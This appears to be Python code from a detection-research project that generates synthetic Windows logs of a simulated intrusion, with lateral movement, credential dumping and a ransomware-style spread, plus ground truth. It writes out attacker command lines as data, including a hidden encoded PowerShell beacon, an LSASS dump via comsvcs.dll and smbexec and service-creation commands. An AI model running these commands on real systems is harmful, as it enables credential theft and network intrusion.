"""The attack: a phished patient zero, credential theft, spread through admin shares.

Normal mode: a few hours, workstation hops with the shared local administrator hash (NTLM,
pass-the-hash shape), an IT admin credential stolen on a workstation and used with PsExec (the
admin's own tool) to reach a server, a domain admin credential dumped there, then servers, a DC
and a ransomware-style burst to many workstations. Stealthy mode: 3-4 hops with hours to a day
between them, no burst. ``admin_seat`` (either mode): the IT admin credential is stolen on the
admin's own workstation and used from there with PsExec, i.e. the same source, account and tool
as the admin's daily routine, usually at the admin's hours (only the way in gives it away).
Techniques: Sysinternals PsExec (PSEXESVC or renamed ``-r``), impacket smbexec (random service,
``%COMSPEC% /Q /c echo ... & del``), copy to C$ + ``sc create``, impacket wmiexec (output to
``\\\\127.0.0.1\\ADMIN$\\__<ts>``).
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime

import numpy as np

from ingest.synthetic.benign import PIPE, READ, WRITE, psexec
from ingest.synthetic.templates import (
    HOUR,
    MINUTE,
    MS,
    SECOND,
    SYSTEM_PROCS,
    Ctx,
    explicit_creds,
    network_logon,
    process,
    service_install,
    share_access,
    smb_connect,
)
from ingest.synthetic.truth import MaliciousHop

TECHNIQUES = ("psexec", "psexec_renamed", "smbexec", "copy_service", "wmiexec")
IMPACKET = r"C:\ProgramData\Intel\rtkhost.exe"      # attacker tooling dropped on each foothold
PSEXEC = r"C:\Users\Public\PsExec64.exe"
SMBEXEC_CMD = (r"%COMSPEC% /Q /c echo {cmd} ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & "
               r"%COMSPEC% /Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat")


@dataclass
class AttackResult:
    """What the attack did, for the ground truth."""

    patient_zero: str
    patient_zero_time: datetime
    hops: list[MaliciousHop]
    credentials: dict[str, str]



class Spree:
    """The attacker's bookkeeping while spreading: hosts already used, and the hops emitted.

    Args:
        ctx: the generation context (its random generator is used for every choice).
        used: host indices the attacker holds already (never picked as a new destination).
    """

    def __init__(self, ctx: Ctx, used: set[int]) -> None:
        self.ctx = ctx
        self.used = set(used)
        self.hops: list[MaliciousHop] = []

    def pick(self, pool: np.ndarray, k: int = 1) -> list[int]:
        """Up to ``k`` hosts of ``pool`` not used yet, chosen at random; they count as used."""
        free = pool[~np.isin(pool, list(self.used))]
        out = [int(x) for x in self.ctx.rng.choice(free, size=min(k, len(free)), replace=False)]
        self.used.update(out)
        return out

    def hop(self, ts: int, src: int, dst: int, account: str, tech: str, **kw: object) -> None:
        """Emit one malicious hop's events (source logs kept 3 times in 4) and record its truth."""
        ctx, ent = self.ctx, self.ctx.ent
        source_logs = bool(ctx.rng.random() > 0.25)
        _emit_hop(ctx, tech, np.array([ts]), np.array([src]), np.array([dst]), account,
                  source_logs=source_logs, **kw)
        self.hops.append(MaliciousHop(ent.hosts[src], ent.hosts[dst], account, _dt(ts), tech,
                                      ctx.blocks.text(int(ctx.ip(np.array([ts]), np.array([src]))[0])),
                                      source_logs and bool(ent.collected[src])))

def attack(ctx: Ctx, *, stealthy: bool, admin_seat: bool = False) -> AttackResult:
    """Add the attack's events and return its truth."""
    ent, rng = ctx.ent, ctx.rng
    day = int(rng.integers(max(1, ctx.days // 2), ctx.days)) if ctx.days > 1 else 0
    if stealthy and ctx.days > 2:
        day = min(day, ctx.days - 2)
    t = ctx.start_ns + day * 86_400 * SECOND + int(8.5 * HOUR) + int(rng.integers(0, 2 * HOUR))
    ws = ent.workstations
    admin_ws = np.asarray(ent.it_admin_hosts)
    ok_ws = ws[ent.collected[ws] & ~np.isin(ws, admin_ws)]
    pz_pool = ok_ws[ent.has_sysmon[ok_ws]] if ent.has_sysmon[ok_ws].any() else ok_ws
    pz = int(rng.choice(pz_pool))
    user = ent.users[ent.workstation_user[pz]]
    _foothold(ctx, t, pz, user)
    t_pz = t
    it_admin = ent.it_admins[0]
    da = ent.domain_admin
    creds = {"administrator": ent.hosts[pz], it_admin: "", da: ""}
    spree = Spree(ctx, {pz})
    pick, hop, hops, used = spree.pick, spree.hop, spree.hops, spree.used
    seat = int(ent.it_admin_hosts[0]) if admin_seat else None   # the IT admin's own workstation

    local = {"auth": "NTLM", "pth": True, "local": True}
    servers = ent.servers
    fs = ent.index("file")
    dcs = ent.index("dc")

    def gap(lo: int, hi: int) -> int:
        return int(rng.integers(lo, hi))

    if not stealthy:
        t += 20 * MINUTE + gap(0, 20 * MINUTE)
        w1, w3 = pick(ok_ws, 2)
        hop(t, pz, w1, "administrator", str(rng.choice(("smbexec", "wmiexec", "psexec_renamed"))),
            **local)
        t += gap(10 * MINUTE, 30 * MINUTE)
        (w2,) = pick(ok_ws) if seat is None else (seat,)
        used.add(w2)
        hop(t, w1, w2, "administrator", str(rng.choice(("copy_service", "smbexec"))), **local)
        hop(t + gap(2 * MINUTE, 15 * MINUTE), pz, w3, "administrator", "wmiexec", **local)
        t += gap(20 * MINUTE, 50 * MINUTE)
        _dump(ctx, t - 5 * MINUTE, w2, it_admin)
        creds[it_admin] = ent.hosts[w2]
        (s1,) = pick(fs if len(fs) else servers)
        hop(t, w2, s1, it_admin, "psexec")           # borrows the IT admin's own PsExec habit
        t += gap(15 * MINUTE, 40 * MINUTE)
        _dump(ctx, t - 5 * MINUTE, s1, da)
        creds[da] = ent.hosts[s1]
        dc = int(rng.choice(dcs))
        used.add(dc)
        hop(t, s1, dc, da, "wmiexec")
        t += gap(5 * MINUTE, 20 * MINUTE)
        (s2,) = pick(servers)
        hop(t, s1, s2, da, str(rng.choice(("smbexec", "copy_service"))))
        t += gap(10 * MINUTE, 30 * MINUTE)
        (s3,) = pick(servers)
        hop(t, dc, s3, da, "copy_service")
        # ransomware staging: the DC pushes to many workstations within a few minutes
        t += gap(30 * MINUTE, 60 * MINUTE)
        burst = pick(ok_ws, int(rng.integers(8, 16)))
        times = t + np.sort(rng.integers(0, 4 * MINUTE, size=len(burst)))
        service = _random_name(rng, 6).lower()
        for ts, dst in zip(times.tolist(), burst, strict=True):
            hop(ts, dc, dst, da, "psexec_renamed", service=service)
    else:
        t += gap(1 * HOUR, 3 * HOUR)
        (w1,) = pick(ok_ws) if seat is None else (seat,)
        used.add(w1)
        hop(t, pz, w1, "administrator", "wmiexec", **local)
        t += gap(3 * HOUR, 10 * HOUR)
        _dump(ctx, t - 20 * MINUTE, w1, it_admin)
        creds[it_admin] = ent.hosts[w1]
        (s1,) = pick(servers)
        hop(t, w1, s1, it_admin, "copy_service" if seat is None else "psexec")
        t += gap(2 * HOUR, 8 * HOUR)
        _dump(ctx, t - 30 * MINUTE, s1, da)
        creds[da] = ent.hosts[s1]
        dc = int(rng.choice(dcs))
        used.add(dc)
        hop(t, s1, dc, da, "wmiexec")
        if rng.random() < 0.6:
            t += gap(1 * HOUR, 6 * HOUR)
            (s2,) = pick(servers)
            hop(t, dc, s2, da, "smbexec")
    return AttackResult(ent.hosts[pz], _dt(t_pz), hops, creds)


def _foothold(ctx: Ctx, t: int, pz: int, user: str) -> None:
    """Phishing: Outlook -> Word macro -> hidden encoded PowerShell beaconing out; then a dump."""
    h = np.array([pz])
    office = r"C:\Program Files\Microsoft Office\root\Office16"
    process(ctx, np.array([t]), h, rf"{office}\WINWORD.EXE",
            rf'"{office}\WINWORD.EXE" /n "C:\Users\{user}\Downloads\Invoice_0419.docm"',
            rf"{office}\OUTLOOK.EXE", user)
    ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    process(ctx, np.array([t + 4 * SECOND]), h, ps,
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA",
            rf"{office}\WINWORD.EXE", user)
    ctx.emit(np.array([t + 6 * SECOND]), h, "Sysmon", 3, src_host=ctx.host_codes[h],
             src_ip=ctx.ip(np.array([t]), h), dst_ip="45.77.65.211", dst_port=443, process=ps,
             account=user, account_domain="CORP")
    _dump(ctx, t + 8 * MINUTE, pz, "administrator")


def _dump(ctx: Ctx, t: int, host: int, _victim: str) -> None:
    """LSASS dump with comsvcs.dll (T1003.001) on a foothold."""
    process(ctx, np.array([t]), np.array([host]), r"C:\Windows\System32\rundll32.exe",
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\ProgramData\lsass.dmp full",
            r"C:\Windows\System32\cmd.exe", "system", domain="NT AUTHORITY", security=True)


def _emit_hop(ctx: Ctx, tech: str, ts: np.ndarray, src: np.ndarray, dst: np.ndarray, account: str,
              *, source_logs: bool, auth: str = "Kerberos", pth: bool = False, local: bool = False,
              service: str | None = None) -> None:
    """Both sides of one lateral-movement technique (arrays of equal length)."""
    rng = ctx.rng
    acct = np.full(len(ts), ctx.blocks.code(account))
    domain = ctx.host_codes[dst] if local else np.full(len(ts), ctx.blocks.code("CORP"))
    if tech in ("psexec", "psexec_renamed"):
        name = "PSEXESVC" if tech == "psexec" else (service or _random_name(rng, 6).lower())
        flags = ("" if tech == "psexec" else f"-r {name} ") + (
            "" if local else f"-u CORP\\{account} -p ******** ")
        if source_logs and not local:
            explicit_creds(ctx, ts, src, dst, acct, ctx.codes(["system"] * len(ts)), PSEXEC)
        psexec(ctx, ts, src, dst, acct, admin_name=account, service=name, auth=auth, pth=pth,
               domain=domain, tool=PSEXEC, flags=flags, source_logs=source_logs,
               command=r'cmd /c "whoami /all & net group \"domain admins\" /domain"')
        return
    image = "System" if tech == "copy_service" else IMPACKET
    if source_logs:
        smb_connect(ctx, ts, src, dst, image=image, account="system", domain="NT AUTHORITY")
    lid = network_logon(ctx, ts, src, dst, acct, auth=auth, pth=pth, admin=True, domain=domain,
                        duration_ns=int(rng.integers(30 * SECOND, 10 * MINUTE)))
    if tech == "smbexec":
        name = service or _random_name(rng, 8)
        cmd = SMBEXEC_CMD.format(cmd="cd")
        share_access(ctx, ts + 30 * MS, src, dst, acct, lid, r"\\*\IPC$", [("svcctl", PIPE)],
                     domain=domain)
        service_install(ctx, ts + 300 * MS, dst, acct, lid, name, cmd, domain=domain)
        process(ctx, ts + 400 * MS, dst, SYSTEM_PROCS["cmd"], cmd.replace("%COMSPEC%", "cmd.exe", 1),
                SYSTEM_PROCS["services"], "system", domain="NT AUTHORITY", security=True)
        share_access(ctx, ts + 1500 * MS, src, dst, acct, lid, r"\\*\C$", [("__output", READ)],
                     domain=domain)
    elif tech == "copy_service":
        name = service or _random_name(rng, 7).capitalize()
        exe = f"{_random_name(rng, 5).lower()}.exe"
        names = [ctx.ent.hosts[d] for d in dst.tolist()]
        if source_logs:
            net = ctx.codes([f"net use \\\\{h}\\C$ /user:CORP\\{account} ********" for h in names])
            process(ctx, ts - 2 * SECOND, src, r"C:\Windows\System32\net.exe", net,
                    SYSTEM_PROCS["cmd"], account, security=True)
            if not local:
                explicit_creds(ctx, ts, src, dst, acct, acct, r"C:\Windows\System32\net.exe")
            sc = ctx.codes([f"sc.exe \\\\{h} create {name} binPath= C:\\Windows\\Temp\\{exe}"
                            for h in names])
            process(ctx, ts + 250 * MS, src, r"C:\Windows\System32\sc.exe", sc, SYSTEM_PROCS["cmd"],
                    account, security=True)
        share_access(ctx, ts + 30 * MS, src, dst, acct, lid, r"\\*\C$",
                     [(f"Windows\\Temp\\{exe}", WRITE)], domain=domain)
        share_access(ctx, ts + 200 * MS, src, dst, acct, lid, r"\\*\IPC$", [("svcctl", PIPE)],
                     domain=domain)
        service_install(ctx, ts + 350 * MS, dst, acct, lid, name, f"C:\\Windows\\Temp\\{exe}",
                        domain=domain)
        process(ctx, ts + 500 * MS, dst, f"C:\\Windows\\Temp\\{exe}", f"C:\\Windows\\Temp\\{exe}",
                SYSTEM_PROCS["services"], "system", domain="NT AUTHORITY", security=True)
    elif tech == "wmiexec":
        stamp = f"__{ts[0] / 1e9:.6f}"
        out = f"\\\\127.0.0.1\\ADMIN$\\{stamp}"
        if source_logs:
            smb_connect(ctx, ts - 100 * MS, src, dst, image=IMPACKET, port=135)
        for k, cmd in enumerate(("cd \\", "whoami /all", "ipconfig /all")):
            at = ts + (1 + 4 * k) * SECOND
            process(ctx, at, dst, SYSTEM_PROCS["cmd"], f"cmd.exe /Q /c {cmd} 1> {out} 2>&1",
                    SYSTEM_PROCS["wmiprvse"], acct, domain=domain, lid=lid, security=True)
            share_access(ctx, at + 500 * MS, src, dst, acct, lid, r"\\*\ADMIN$",
                         [(stamp, READ), (stamp, 0x10080)], domain=domain)
    else:
        raise ValueError(f"unknown technique {tech!r}")


def _random_name(rng: np.random.Generator, k: int) -> str:
    letters = np.frombuffer(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ", dtype=np.uint8)
    return bytes(letters[rng.integers(0, 26, size=k)]).decode()


def _dt(ns: int) -> datetime:
    return datetime.fromtimestamp(ns / 1e9, tz=UTC)
